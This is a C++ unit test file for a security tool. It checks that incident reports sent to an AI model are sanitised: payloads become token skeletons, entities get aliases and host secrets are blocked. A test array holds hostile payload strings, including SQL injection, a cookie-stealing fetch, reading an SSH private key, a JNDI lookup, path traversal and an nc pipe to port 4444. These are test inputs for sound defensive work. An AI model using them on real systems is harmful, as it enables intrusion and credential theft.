#include <gtest/gtest.h>

#include <cctype>
#include <unordered_set>

#include "ai/outbound/skeleton.h"
#include "ai/outbound/testing/sample.h"
#include "ai/outbound/testing/secrets.h"
#include "model/schema.h"

namespace onesec::ai {
namespace {

std::string shape(std::string_view excerpt) {
  const ExcerptPart part = skeleton_of(excerpt);
  if (const auto* binary = std::get_if<BinaryPart>(&part)) {
    return std::to_string(binary->bytes.value()) + " bytes, entropy " + std::string(binary->entropy.text());
  }
  std::string out;
  for (const Word<List::Token>& token : std::get<TextPart>(part).tokens) out += std::string(token.text()) + " ";
  return out;
}

SampleIncident carrying(const std::string& text) {
  SampleIncident incident = sample_incident();
  incident.excerpts = Excerpts::Lexical;
  incident.alert.matched = {text, text};
  for (SampleIncident::Evidence& one : incident.evidence) one.excerpt = text;
  return incident;
}

TEST(P4_2, APromptHoldsTheAllowedDataAndNothingElse) {
  EXPECT_EQ(
      sample_incident().document(tag_of(1)).json(),
      R"({"v":1,"request":"bbbbbbbc","alert":{"module":"auth_fortress","type":"web_brute_force",)"
      R"("detector":"auth.web_brute_force","severity":"HIGH","provenance":"trusted_local","confidence":87,"count":410,)"
      R"("historical":false,"lasted":"+5m","about":{"kind":"address","alias":"a1.bbbbbbbc","reach":"private"},)"
      R"("techniques":["T1110.001","T1110.004"],"measures":[{"name":"web_failures_tenths","value":12000,)"
      R"("threshold":100},{"name":"web_alike_in_a_row","value":40,"threshold":12}],)"
      R"("targets":[{"kind":"address","alias":"a1.bbbbbbbc","reach":"private"},)"
      R"({"kind":"user","alias":"u1.bbbbbbbc","reach":"none"}],"matched":[]},)"
      R"("evidence":[{"id":"e1","event":"auth_failure","severity":"LOW","provenance":"declared","at":"+0s",)"
      R"("entities":[{"kind":"address","alias":"a1.bbbbbbbc","reach":"private"},)"
      R"({"kind":"user","alias":"u1.bbbbbbbc","reach":"none"}],"port":"web","protocol":"https","status":"4xx",)"
      R"("excerpt":{"kind":"none"}},)"
      R"({"id":"e2","event":"http_request","severity":"INFO","provenance":"declared","at":"+1m",)"
      R"("entities":[{"kind":"address","alias":"a1.bbbbbbbc","reach":"private"},)"
      R"({"kind":"host","alias":"h1.bbbbbbbc","reach":"none"}],"port":"web","protocol":"https","status":"5xx",)"
      R"("excerpt":{"kind":"none"}},)"
      R"({"id":"e3","event":"http_request","severity":"INFO","provenance":"declared","at":"+5m",)"
      R"("entities":[{"kind":"address","alias":"a1.bbbbbbbc","reach":"private"}],"port":"none","protocol":"other",)"
      R"("status":"none","excerpt":{"kind":"none"}}],)"
      R"("related":[{"id":"r1","module":"auth_fortress","type":"user_enumeration","severity":"HIGH","count":9,)"
      R"("at":"-1h","lasted":"+1h","techniques":["T1110.001","T1110.004"],"shares":["a1.bbbbbbbc","u1.bbbbbbbc"]},)"
      R"({"id":"r2","module":"other","type":"other","severity":"HIGH","count":410,"at":"+0s","lasted":"+5m",)"
      R"("techniques":["T1110.001","T1110.004"],"shares":["u1.bbbbbbbc"]}],)"
      R"("modules":[{"module":"other","alerts":1},{"module":"auth_fortress","alerts":2}]})");
}

TEST(P4_3, AnExcerptIsWordsOfTheLexiconAndShapesOfTheRest) {
  EXPECT_EQ(shape("1' union select name from users where mail='bob@x.io'"),
            "num:1 p:squote kw:union kw:select id kw:from id kw:where id p:equals str:16 ");
  EXPECT_EQ(
      shape("<script>alert(document.cookie)</script>"),
      "p:less kw:script p:greater kw:alert p:lparen kw:document p:dot kw:cookie p:rparen p:less p:slash kw:script "
      "p:greater ");
  EXPECT_EQ(shape("../../home/alice/.ssh"),
            "p:dot p:dot p:slash p:dot p:dot p:slash id p:slash id p:slash p:dot kw:ssh ");
  EXPECT_EQ(shape("x=0xDEADBEEF 20261126 4915112345678"), "id p:equals num:8 num:8 num:more ");
  EXPECT_EQ(shape(" \"\" 'abcd' 'abcde'"), "str:0 str:4 str:16 ");
  EXPECT_EQ(shape("SeLeCt selecting __class__"), "kw:select id kw:__class__ ");
  EXPECT_EQ(shape("\xD0\x90\xD0\xBB\xD0\xB8\xD1\x81\xD0\xB0 union\xD0\xB0"), "id id ");
  EXPECT_EQ(shape(""), "");
}

TEST(P4_3, AnExcerptHasSixtyFourTokensAtMost) {
  std::string text;
  for (int i = 0; i < 65; ++i) text += "or ";
  EXPECT_EQ(std::get<TextPart>(skeleton_of(text)).tokens.size(), kMaxTokens);
  EXPECT_EQ(std::get<TextPart>(skeleton_of(text.substr(0, 64 * 3))).tokens.size(), 64U);
  EXPECT_EQ(std::get<TextPart>(skeleton_of(text.substr(0, 63 * 3))).tokens.size(), 63U);
}

TEST(P4_3, WithoutTheOwnersWordNothingOfAnExcerptIsTold) {
  SampleIncident incident = carrying("1' union select 2");
  incident.excerpts = Excerpts::Off;
  SampleIncident other = carrying(std::string(3000, '\x01'));
  other.excerpts = Excerpts::Off;
  EXPECT_EQ(incident.document(tag_of(1)).json(), other.document(tag_of(1)).json());
}

constexpr std::string_view kPeople[] = {
    "Ingeborg Haraldsdottir",
    "Jürgen Großkreutz",
    "Людмила Войцеховская",
    "Παπαδόπουλος Γιώργος",
    "فاطمة الزهراء",
    "מירב אברהמי",
    "अमित कुलकर्णी",
    "สมชาย ใจดี",
    "山田美咲子",
    "王小明先生",
    "김민수씨네",
    "Çağlar Yıldırımoğlu",
    "Nguyễn Thị Hương",
    "zoltan.quispe@verdejo.example",
    "+49 151 23456789",
    "203.0.113.97",
    "2001:db8:77:abcd::1234",
    "Storgatan 17b",
    "DE44500105175407324931",
    "/home/xiomara/steuer.ods",
    "hunter2-Zq9xKw",
};
constexpr std::string_view kPayloads[] = {
    "1' union select % from users where mail='%'",
    "<script>fetch('//%/'+document.cookie)</script>",
    "; cat /home/%/.ssh/id_rsa #",
    "{{ %.__class__.__mro__ }}",
    "../../../../%/etc/passwd",
    "${jndi:ldap://%/a}",
    "admin'/*%*/or 1=1-- %",
    "%",
    "q=%25%20%\"",
    "<img src=x onerror=alert(\"%\")>",
    "`%`|nc % 4444",
};

/// Four letters, digits or bytes beyond ASCII in a row.
bool is_wordy(std::string_view part) {
  for (const char c : part) {
    if (std::isalnum(static_cast<unsigned char>(c)) == 0 && static_cast<unsigned char>(c) < 0x80) return false;
  }
  return true;
}

TEST(P4_3, NoFourCharactersOfAPayloadThatArentOfTheLanguageAreInAPrompt) {
  std::string language;
  for (std::size_t i = 0; i < kLists; ++i) {
    for (const std::string_view word : words_of(static_cast<List>(i))) language += std::string(word) + " ";
  }
  for (const BuiltRequest& request : all_requests(sample_incident(), tag_of(1))) language += request.body;
  std::size_t looked_for = 0;
  for (const std::string_view payload : kPayloads) {
    for (const std::string_view person : kPeople) {
      std::string text(payload);
      for (std::size_t at = text.find('%'); at != std::string::npos; at = text.find('%', at + person.size())) {
        text.replace(at, 1, person);
      }
      std::string prompts;
      for (const BuiltRequest& request : all_requests(carrying(text), tag_of(1))) prompts += request.body;
      for (std::size_t at = 0; at + 4 <= text.size(); ++at) {
        const std::string part = text.substr(at, 4);
        if (!is_wordy(part) || language.find(part) != std::string::npos) continue;
        ++looked_for;
        EXPECT_EQ(prompts.find(part), std::string::npos) << part << " of " << text;
      }
    }
  }
  EXPECT_GT(looked_for, 2000U);
}

TEST(P4_4, TheSameEntityHasAnotherAliasInTheNextRequest) {
  const std::string first = sample_incident().document(tag_of(1)).json();
  const std::string second = sample_incident().document(tag_of(2)).json();
  EXPECT_NE(first.find("u1.bbbbbbbc"), std::string::npos);
  EXPECT_EQ(second.find("u1.bbbbbbbc"), std::string::npos);
  EXPECT_NE(second.find("u1.bbbbbbbd"), std::string::npos);
}

TEST(P4_4, AnAliasComesFromTheOrderAndNotFromTheValue) {
  SampleIncident swapped = sample_incident();
  const auto rename = [](Entity& entity) {
    if (entity.kind == EntityKind::User) entity.value = "somebody else entirely";
  };
  rename(swapped.alert.targets[1]);
  for (SampleIncident::Evidence& one : swapped.evidence) {
    for (Entity& entity : one.entities) rename(entity);
  }
  for (Alert& alert : swapped.related) {
    rename(alert.entity);
    for (Entity& entity : alert.targets) rename(entity);
  }
  EXPECT_EQ(swapped.document(tag_of(1)).json(), sample_incident().document(tag_of(1)).json());
}

TEST(P4_4, CorrelationIsModulesCountsTimesTechniquesAndAliases) {
  SampleIncident incident = sample_incident();
  incident.related[0].entity = {EntityKind::User, "not of the alert"};
  incident.related[0].targets = {{EntityKind::Address, "203.0.113.9"}, {EntityKind::Address, "203.0.113.9"}};
  const std::string json = incident.document(tag_of(1)).json();
  EXPECT_NE(json.find(R"({"id":"r1","module":"auth_fortress","type":"user_enumeration","severity":"HIGH","count":9,)"
                      R"("at":"-1h","lasted":"+1h","techniques":["T1110.001","T1110.004"],"shares":["a1.bbbbbbbc"]})"),
            std::string::npos)
      << json;
}

TEST(P4_8, OfBytesThatAreNoTextOnlyTheirSizeAndEntropyAreTold) {
  std::string capture = {'\xD4', '\xC3', '\xB2', '\xA1', '\2', '\0', '\4', '\0'};
  capture += "GET /konto/alice HTTP/1.1 Cookie: SESSION=abcdef union select";
  EXPECT_EQ(shape(capture), "69 bytes, entropy medium");
  EXPECT_EQ(shape(std::string(12345, '\0')), "12000 bytes, entropy low");
  std::string every;
  for (int i = 0; i < 1024; ++i) every += static_cast<char>(i * 7 % 256);
  EXPECT_EQ(shape(every), "1000 bytes, entropy high");
  EXPECT_EQ(shape("union select \x7F"), "14 bytes, entropy medium") << "a control in a text";
  EXPECT_EQ(shape("union select \xC3\x28 or 1=1"), "22 bytes, entropy medium") << "no UTF-8";

  const std::string json = carrying(capture).document(tag_of(1)).json();
  EXPECT_NE(json.find(R"("matched":[{"kind":"binary","bytes":69,"entropy":"medium"})"), std::string::npos) << json;
  EXPECT_EQ(json.find("kw:"), std::string::npos) << json;
}

TEST(P4_9, AForcedBugOfTheBuilderIsBlockedForEachSecretOfTheHostInEachForm) {
  Dice dice(9);
  std::vector<std::string> secrets;
  for (const SecretClass& one : secret_classes()) {
    if (one.kind == Kind::Credential) secrets.push_back(one.make(dice));
  }
  const std::vector<std::string_view> views(secrets.begin(), secrets.end());
  EgressGate gate{SecretCheck({7, 7}, views)};
  const std::vector<BuiltRequest> real = all_requests(sample_incident(), tag_of(1));
  std::size_t tried = 0;
  for (const std::string& secret : secrets) {
    std::vector<std::string> written{secret.substr(0, 12), secret.substr(secret.size() - 12), "xy" + secret};
    for (const Form& form : forms()) {
      // Halves of a short one are shorter than what counts as a part; UTF-16 isn't ASCII, which the gate refuses
      // anyway.
      if (form.name == "split" && secret.size() < 2 * SecretCheck::kWindow) continue;
      if (form.name != "UTF-16") written.push_back(form.encode(secret));
    }
    for (const std::string_view before : {"", "x", "xy"}) {
      written.push_back(forms()[1].encode(std::string(before) + secret + "xyz"));  // base64, at each alignment
    }
    for (const std::string& text : written) {
      for (const std::string_view place : {"auth_fortress", "Answer in JSON"}) {
        std::string body = real[tried % real.size()].body;
        body.replace(body.find(place), place.size(), text);
        const std::uint64_t before = gate.refused(Refused::Secret);
        const auto result = gate.pass(body, real[tried % real.size()].expected);
        ++tried;
        ASSERT_FALSE(result);
        EXPECT_EQ(name_of(result.error().reason), "secret") << text;
        EXPECT_EQ(gate.refused(Refused::Secret), before + 1);
        EXPECT_EQ(result.error().expected.find(secret), std::string::npos);
      }
    }
  }
  EXPECT_GT(tried, 700U);
  EXPECT_TRUE(gate.pass(real[0].body, real[0].expected)) << "the counter-proof: without the bug it goes";
}

TEST(P4_9, ASecretIsLookedForFromFourCharactersOnAndCountedBelow) {
  const std::vector<std::string_view> secrets{"abc", "Zq9x", ""};
  const SecretCheck check({1}, secrets);
  EXPECT_EQ(check.secrets(), 1U);
  EXPECT_EQ(check.too_short(), 2U);
  EXPECT_TRUE(check.found_in("..Zq9x.."));
  EXPECT_TRUE(check.found_in("..x9qZ.."));
  EXPECT_TRUE(check.found_in("..5a713978.."));
  EXPECT_FALSE(check.found_in("..Zq9.abc.."));
  EXPECT_FALSE(SecretCheck().found_in("anything"));
  const std::vector<std::string_view> odd{"~~~???~~~???"};
  EXPECT_TRUE(SecretCheck({1}, odd).found_in("fn5+Pz8/fn5+Pz8/"));
  EXPECT_TRUE(SecretCheck({1}, odd).found_in("fn5-Pz8_fn5-Pz8_"));
}

}  // namespace
}  // namespace onesec::ai
